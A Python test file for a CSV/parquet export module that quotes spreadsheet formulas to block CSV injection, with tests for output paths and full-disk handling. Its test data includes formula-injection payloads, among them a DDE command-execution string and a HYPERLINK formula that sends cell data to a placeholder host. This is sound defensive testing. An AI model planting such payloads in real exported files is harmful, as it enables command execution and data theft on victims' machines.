from __future__ import annotations

import gzip
import subprocess
import sys

import numpy as np
import pandas as pd
import pytest

from cashmere.cli.output_files import check_output, without_formulas, write_table
from cashmere.exceptions import InvalidParameterError, OutputError

RUN_BY_SPREADSHEETS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1)',
    "+1+cmd",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "  =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "-unknown-",
]
HARMLESS = ["", "-", "+", "-1", "+1.5", "-1e3", "-inf", " -2 ", "a=b", "<=50K", "1-2", "e@mail", "'=1", "nan"]


@pytest.mark.parametrize("text", RUN_BY_SPREADSHEETS)
def test_formula_gets_a_quote(text):
    safe, n_changed = without_formulas(pd.DataFrame({"a": ["x", text]}))
    assert safe["a"].tolist() == ["x", f"'{text}"] and n_changed == 1


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays(text):
    frame = pd.DataFrame({"a": ["x", text]})
    safe, n_changed = without_formulas(frame)
    pd.testing.assert_frame_equal(safe, frame)
    assert n_changed == 0


def test_numbers_dates_and_missing_values_stay_but_column_names_are_quoted():
    frame = pd.DataFrame({"n": [-1, 2], "f": [-1.5, np.nan], "o": [-1, None], "d": pd.to_datetime(["2020-01-01"] * 2)})
    safe, n_changed = without_formulas(frame)
    pd.testing.assert_frame_equal(safe, frame)
    named, n_names = without_formulas(frame.set_axis(["=n()", "f", "-", "@d"], axis=1))
    assert (n_changed, n_names, list(named.columns)) == (0, 2, ["'=n()", "f", "-", "'@d"])
    categories, n_cells = without_formulas(pd.DataFrame({"c": pd.Categorical(["=a", "b", "=a"])}))
    assert (categories["c"].tolist(), n_cells) == (["'=a", "b", "'=a"], 2)


def test_formulas_are_kept_on_request_and_in_parquet(tmp_path):
    frame = pd.DataFrame({"a": ["=1", "x"]})
    for name, keep, n_expected in (("a.csv", False, 1), ("b.csv.gz", True, 0), ("c.parquet", False, 0)):
        path = tmp_path / name
        assert write_table(frame, path, keep_formulas=keep) == n_expected
        back = pd.read_parquet(path) if name.endswith("t") else pd.read_csv(path)
        assert back["a"].tolist() == ["'=1" if n_expected else "=1", "x"]
    assert gzip.decompress((tmp_path / "b.csv.gz").read_bytes()) == b"a\n=1\nx\n"
    assert {path.name for path in tmp_path.iterdir()} == {"a.csv", "b.csv.gz", "c.parquet"}


def test_impossible_outputs_are_refused(tmp_path):
    (tmp_path / "folder.csv").mkdir()
    with pytest.raises(OutputError, match=r"there is no folder .*gone\. Make it first"):
        check_output(tmp_path / "gone" / "a.csv")
    with pytest.raises(OutputError, match="no regular file"):
        check_output(tmp_path / "folder.csv")
    with pytest.raises(InvalidParameterError, match=r"\.csv, \.csv\.gz or \.parquet"):
        check_output(tmp_path / "a.xlsx")
    check_output(tmp_path / "a.json", others=(".json",))


FULL = """
import resource, sys
import pandas as pd
from pathlib import Path
from cashmere.cli.output_files import write_table
from cashmere.exceptions import OutputError

resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))
try:
    write_table(pd.DataFrame({"a": range(10_000)}), Path(sys.argv[1]))
except OutputError as error:
    print(error)
"""


@pytest.mark.skipif(sys.platform == "win32", reason="file sizes cannot be limited on Windows")
def test_full_disk_keeps_the_old_file(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text("before\n")
    result = subprocess.run([sys.executable, "-c", FULL, path], capture_output=True, text=True, check=True)
    assert "a.csv: cannot be written (File too large)" in result.stdout
    assert path.read_text() == "before\n" and [each.name for each in tmp_path.iterdir()] == ["a.csv"]


@pytest.mark.parametrize("name", ["value", "self"])
def test_values_of_several_types_become_texts_in_parquet(name, tmp_path):
    values = [1.5, "red", None, True, pd.Timestamp("2024-05-01"), 7]
    path = tmp_path / "t.parquet"
    write_table(pd.DataFrame({name: values, "n": range(6)}), path)
    back = pd.read_parquet(path)
    assert back[name].drop(2).tolist() == ["1.5", "red", "True", "2024-05-01 00:00:00", "7"]
    assert pd.isna(back[name][2]) and back["n"].tolist() == list(range(6))
